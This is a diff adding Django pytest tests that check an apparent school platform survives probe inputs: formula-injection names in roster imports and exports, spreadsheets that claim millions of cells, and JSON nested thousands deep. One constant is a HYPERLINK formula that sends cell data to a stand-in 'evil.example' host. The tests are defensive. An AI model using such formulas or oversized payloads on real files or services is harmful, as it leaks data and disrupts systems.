@@ -1,0 +1,136 @@
+"""What an outside probe sent, where a user meets it (issue 11, items 1, 2 and 5): a spreadsheet claiming
+millions of cells on the roster and question imports, a formula as a name in the initial-password file and
+the cockpit's export, and JSON nested hundreds deep at the xAPI endpoint, the documents API, the Ninja API
+and the question import. Each answers with a message and loses nothing; none is a 500."""
+
+import io
+import re
+import zipfile
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl import Workbook, load_workbook
+
+from zhijiao.accounts.models import User
+from zhijiao.accounts.tests.test_roster_import import STUDENT_HEAD
+from zhijiao.records.tests.conftest import make_client, stmt
+
+pytestmark = pytest.mark.django_db
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def _workbook(rows, *, dimension: str | None = None) -> bytes:
+    wb = Workbook()
+    for r in rows:
+        wb.active.append(r)
+    buf = io.BytesIO()
+    wb.save(buf)
+    if dimension is None:
+        return buf.getvalue()
+    out = io.BytesIO()
+    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = re.sub(rb'<dimension ref="[^"]+"/>', f'<dimension ref="{dimension}"/>'.encode(), data)
+            dst.writestr(info.filename, data)
+    return out.getvalue()
+
+
+def _no_formulas(content: bytes) -> list:
+    with zipfile.ZipFile(io.BytesIO(content)) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    return [c.value for ws in load_workbook(io.BytesIO(content)).worksheets for row in ws.iter_rows() for c in row]
+
+
+def test_a_roster_name_that_is_a_formula_stays_text_in_the_initial_password_file(client_as, users, demo):
+    c = client_as(users["xiao_cio"])
+    row = f"{demo.schools[0].code},一年级,1班,{EVIL.replace(',', '，')},G5101089999400007,女,,,,"
+    csv = "\r\n".join([STUDENT_HEAD, row]).encode()
+    preview = c.post("/accounts/roster/", {"files": SimpleUploadedFile("学生.csv", csv)})["Location"]
+    result = c.post(preview)
+    assert result.status_code == 302, c.get(preview).content.decode()[:2000]
+    values = _no_formulas(c.get(result["Location"].replace("result/", "accounts.xlsx")).content)
+    kid = User.objects.get(student_number="G5101089999400007")
+    assert kid.name.startswith("=HYPERLINK(") and kid.name in values and kid.username in values
+
+
+def test_a_roster_sheet_claiming_a_huge_size_is_read_for_its_rows(client_as, users, demo):
+    school = demo.schools[0]
+    head = STUDENT_HEAD.split(",")
+    content = _workbook([head, [school.code, "一年级", "1班", "维度炸弹", "G5101089999400008", "女"]],
+                        dimension="A1:XFD8000")
+    c = client_as(users["xiao_admin"])
+    resp = c.post("/accounts/roster/", {"files": SimpleUploadedFile("学生.xlsx", content)})
+    assert resp.status_code == 302
+    page = c.get(resp["Location"]).content.decode()
+    assert "维度炸弹" in page and "新建" in page
+
+
+def test_a_question_file_claiming_a_huge_size_imports_its_rows(client_as, users, demo):
+    content = _workbook([["题型", "题干", "答案"], ["判断", "1 时 = 60 分", "对"]], dimension="A1:XFD1048576")
+    resp = client_as(users["laoshi"]).post("/questions/import/", {"file": SimpleUploadedFile("题.xlsx", content)})
+    assert resp.status_code in (200, 302)
+    from zhijiao.questions.models import Question
+
+    assert Question.objects.filter(stem="1 时 = 60 分").exists()
+
+
+def test_the_cockpit_export_writes_a_formula_name_as_text():
+    from zhijiao.cockpit.exports import Table, xlsx_response
+
+    resp = xlsx_response(Table("teachers", "教师", ["教师", "得分"], [[EVIL, 88.5], ["=1+1", 3]]), "teachers")
+    values = _no_formulas(resp.content)
+    assert EVIL in values and "=1+1" in values and 88.5 in values
+
+
+def _nested(depth: int) -> str:
+    """JSON text nesting `depth` objects (built as text: the standard library cannot write 3,000 levels)."""
+    return '{"k":' * depth + '"x"' + "}" * depth
+
+
+def _with(data, deep: str) -> str:
+    import json
+
+    return json.dumps(data, ensure_ascii=False).replace('"__DEEP__"', deep)
+
+
+@pytest.mark.parametrize("depth", [40, 900, 3000])
+def test_xapi_statements_nested_too_deep_are_a_400_with_a_reason(depth):
+    lrs = make_client()
+    body = _with(stmt(context={"extensions": {"http://example.org/deep": "__DEEP__"}}), _nested(depth))
+    from zhijiao.records.models import Statement
+
+    before = Statement.objects.count()
+    resp = lrs.post("/xapi/statements", body)
+    assert resp.status_code == 400 and resp["Content-Type"].startswith("application/json")
+    assert "嵌套" in resp.content.decode()
+    assert Statement.objects.count() == before
+    assert lrs.post("/xapi/statements", stmt()).status_code == 200  # an ordinary statement still goes in
+    assert lrs.get("/xapi/statements", {"format": "canonical"}).status_code == 200
+
+
+@pytest.mark.parametrize("depth", [40, 3000])
+def test_a_state_document_nested_too_deep_does_not_break_the_lrs(depth):
+    import json
+
+    lrs = make_client()
+    params = ("?activityId=http://example.org/a&stateId=s&agent="
+              + json.dumps({"mbox": "mailto:tester@example.org"}))
+    resp = lrs.post("/xapi/activities/state" + params, _nested(depth))
+    assert resp.status_code == 400
+    assert lrs.post("/xapi/activities/state" + params, {"ok": 1}).status_code == 204
+
+
+@pytest.mark.parametrize("depth", [40, 3000])
+def test_the_api_answers_a_too_deep_body_with_a_json_400(api_as, users, demo, depth):
+    resp = api_as(users["laoshi"]).post("/api/v1/questions/import", _with({"questions": ["__DEEP__"]}, _nested(depth)),
+                                         content_type="application/json")
+    assert resp.status_code == 400 and resp.json()["detail"]
+
+
+def test_a_question_json_upload_nested_too_deep_gets_a_message(client_as, users, demo):
+    upload = SimpleUploadedFile("题.json", ("[" + _nested(3000) + "]").encode())
+    resp = client_as(users["laoshi"]).post("/questions/import/", {"file": upload})
+    assert resp.status_code in (200, 400, 422) and "嵌套超过" in resp.content.decode()
